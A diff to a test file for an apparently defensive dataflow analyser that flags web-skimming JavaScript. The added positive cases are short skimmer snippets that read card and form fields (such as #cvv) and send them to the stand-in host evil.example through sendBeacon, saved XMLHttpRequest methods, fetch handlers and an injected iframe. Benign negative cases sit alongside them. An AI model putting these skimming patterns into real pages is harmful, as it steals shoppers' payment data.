@@ -38,6 +38,24 @@ const positives: [string, string, string, string, string | null, boolean][] = [
     'value of #cvv', 'fetch', 'evil.example', false],
   ['FormData of a form', `var f = document.querySelector("form#checkout"); fetch("https://evil.example/f", {method: "POST", body: new FormData(f)});`,
     'FormData of form#checkout', 'fetch', 'evil.example', false],
+  ['a saved, bound sendBeacon (the original a request hook keeps)',
+    `var send = navigator.sendBeacon ? navigator.sendBeacon.bind(navigator) : null; send("https://evil.example/b", document.getElementById("cvv").value);`,
+    'value of #cvv', 'navigator.sendBeacon', 'evil.example', false],
+  ['saved XMLHttpRequest open/send called through Function.prototype.call',
+    `var P = XMLHttpRequest.prototype, oa = P.open, ob = P.send; var x = new XMLHttpRequest(); oa.call(x, "POST", "https://evil.example/x"); ob.call(x, document.getElementById("cvv").value);`,
+    'value of #cvv', 'XMLHttpRequest.send', 'evil.example', false],
+  ['elements handed to a callback through [].forEach.call',
+    `var r = {}; [].forEach.call(document.querySelectorAll("#pay input"), function (el) { r[el.name] = el.value; }); navigator.sendBeacon("https://evil.example/b", JSON.stringify(r));`,
+    'value of #pay input', 'navigator.sendBeacon', 'evil.example', false],
+  ['the event target destructured under another name',
+    `document.addEventListener("change", ({ target: t }) => { fetch("https://evil.example/c", {method: "POST", body: t.value}); });`,
+    'value of a form field', 'fetch', 'evil.example', false],
+  ['an element passed to a prototype method',
+    `function K() {} K.prototype.keep = function (el) { fetch("https://evil.example/k?v=" + el.value); }; var k = new K(); document.addEventListener("blur", function (e) { k.keep(e.target); }, true);`,
+    'value of a form field', 'fetch', 'evil.example', false],
+  ['postMessage into a frame the script created and pointed at a host',
+    `function frame() { var f = document.createElement("iframe"); f.setAttribute("src", "https://evil.example/bridge.html"); document.body.appendChild(f); return f; } frame().contentWindow.postMessage(document.getElementById("cvv").value, "*");`,
+    'value of #cvv', 'postMessage', 'evil.example', false],
 ];
 
 describe('dataflow: proven flows', () => {
@@ -72,6 +90,8 @@ describe('dataflow: no flow', () => {
     ['iterator .value is not a form field', `var it = list[Symbol.iterator](); var r = it.next(); fetch("https://api.example/x?v=" + r.value);`],
     ['shadowed names do not mix', `function a() { var d = document.getElementById("cc").value; return d.length; } function b(d) { fetch("https://api.example/" + d); } b("x");`],
     ['an empty FormData built for a request body', `var f = new FormData(); f.append("a", "1"); fetch("/upload", {method: "POST", body: f});`],
+    ['a saved fetch used for the page\'s own data', `var f = window.fetch.bind(window); f("/api/cart", {method: "POST", body: JSON.stringify({page: location.pathname})});`],
+    ['a renamed non-target property of an event is not a field', `document.addEventListener("change", ({ detail: t }) => { fetch("https://api.example/c", {method: "POST", body: t.value}); });`],
     ['a key code compared in a handler', `el.addEventListener("keydown", function (e) { if (e.keyCode === 13) fetch("/search"); });`],
   ];
   for (const [name, code] of negatives) {
